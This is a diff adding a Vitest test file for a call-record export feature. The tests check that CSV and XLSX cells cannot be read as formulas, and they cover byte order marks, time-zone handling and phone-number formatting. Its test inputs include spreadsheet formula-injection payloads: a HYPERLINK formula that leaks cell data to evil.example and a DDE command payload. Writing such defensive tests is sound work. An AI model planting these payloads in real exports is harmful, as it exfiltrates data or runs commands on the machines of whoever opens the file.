@@ -1,0 +1,113 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { ExportFormat, ExportInput, Source } from '../../src/index.ts'
+import { testEngines, type TestCore } from '../../src/testing/index.ts'
+import {
+  addCalls,
+  addSource,
+  bytesOf,
+  csvRows,
+  lan,
+  openExports,
+  untilWritten,
+  xlsxRows,
+} from './open-exports.ts'
+
+/** What a spreadsheet would compute, dial out with, or break a line at. */
+const hostile = [
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  'a return\r=1+1',
+  '+84335550159',
+  'plain, with "quotes"\r\n=1+1 in a second line',
+  '0335550159',
+]
+
+describe.each(testEngines)('C1 the cells of an export on %s', (engine) => {
+  let open: TestCore & { readonly source: Source }
+  beforeAll(async () => {
+    open = await openExports(engine)
+  })
+  afterAll(() => open.close())
+
+  const rowsOf = async (input: Omit<ExportInput, 'format'>, format: ExportFormat) => {
+    const { id } = await open.core.exports.create({ ...input, format }, lan)
+    await untilWritten(open.core, id)
+    const bytes = await bytesOf(open.core, id)
+    return format === 'csv' ? csvRows(bytes) : xlsxRows(bytes)
+  }
+
+  test('nothing becomes a formula, and +84… stays readable', async () => {
+    const source = await addSource(open.core, 'Asia/Tokyo')
+    const calls = hostile.map((statusText, at) => ({
+      startedAt: `2025-09-11T01:00:${String(59 - at)}Z`,
+      statusText,
+    }))
+    await addCalls(open.core, source, calls)
+    const wish = { filter: { sourceId: source.id }, columns: ['statusText'] } as const
+    const csv = (await rowsOf(wish, 'csv')).slice(1).map(([cell]) => cell)
+    expect(csv).toHaveLength(hostile.length)
+    for (const cell of csv) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    expect(csv[7]).toBe("'+84335550159")
+    expect(csv[8]).toBe(hostile[8])
+    const xlsx = (await rowsOf(wish, 'xlsx')).slice(1).map(([cell]) => cell)
+    expect(xlsx).toEqual(hostile)
+  })
+
+  test('a CSV begins with a byte order mark and ends its lines as spreadsheets do', async () => {
+    const { id } = await open.core.exports.create(
+      { format: 'csv', columns: ['id', 'source'], language: 'vi', filter: { durationMin: 1 } },
+      lan,
+    )
+    await untilWritten(open.core, id)
+    expect((await bytesOf(open.core, id)).toString('utf8')).toBe('\uFEFFMã bản ghi,Tổng đài\r\n')
+  })
+
+  test('times are the wall clock of the zone, over both changes of the clocks', async () => {
+    const source = await addSource(open.core, 'America/New_York')
+    const moments = [
+      ['2025-11-02T06:30:00Z', '2025-11-02 01:30:00'],
+      ['2025-11-02T05:30:00Z', '2025-11-02 01:30:00'],
+      ['2025-03-09T07:00:00Z', '2025-03-09 03:00:00'],
+      ['2025-03-09T06:59:59Z', '2025-03-09 01:59:59'],
+    ] as const
+    await addCalls(
+      open.core,
+      source,
+      moments.map(([startedAt]) => ({ startedAt })),
+    )
+    const wish = { filter: { sourceId: source.id }, columns: ['startedAt', 'answeredAt'] } as const
+    const local = moments.map(([, text]) => text)
+    const csv = await rowsOf(wish, 'csv')
+    expect(csv[0]?.[0]).toBe('Start (America/New_York)')
+    expect(csv.slice(1).map(([cell]) => cell)).toEqual(local)
+    const xlsx = await rowsOf(wish, 'xlsx')
+    const shown = xlsx.slice(1).map(([cell]) => textOf(cell))
+    expect(shown).toEqual(local)
+    const saigon = await rowsOf({ ...wish, timeZone: 'Asia/Ho_Chi_Minh' }, 'csv')
+    expect(saigon.slice(1).map(([cell]) => cell)).toEqual([
+      '2025-11-02 13:30:00',
+      '2025-11-02 12:30:00',
+      '2025-03-09 14:00:00',
+      '2025-03-09 13:59:59',
+    ])
+  })
+
+  test('telephone numbers and extensions are text in a workbook, seconds are numbers', async () => {
+    const source = await addSource(open.core, 'Asia/Seoul')
+    await addCalls(open.core, source, [
+      { startedAt: '2025-09-11T01:00:00Z', callerNumber: '0335550159' },
+    ])
+    const columns = ['callerNumber', 'extension', 'hasRecording', 'startedAt'] as const
+    const [, row] = await rowsOf({ filter: { sourceId: source.id }, columns }, 'xlsx')
+    expect(row?.slice(0, 3)).toEqual(['0335550159', '0101', false])
+    expect(row?.[3]).toBeInstanceOf(Date)
+  })
+})
+
+function textOf(cell: unknown): string {
+  return (cell as Date).toISOString().slice(0, 19).replace('T', ' ')
+}
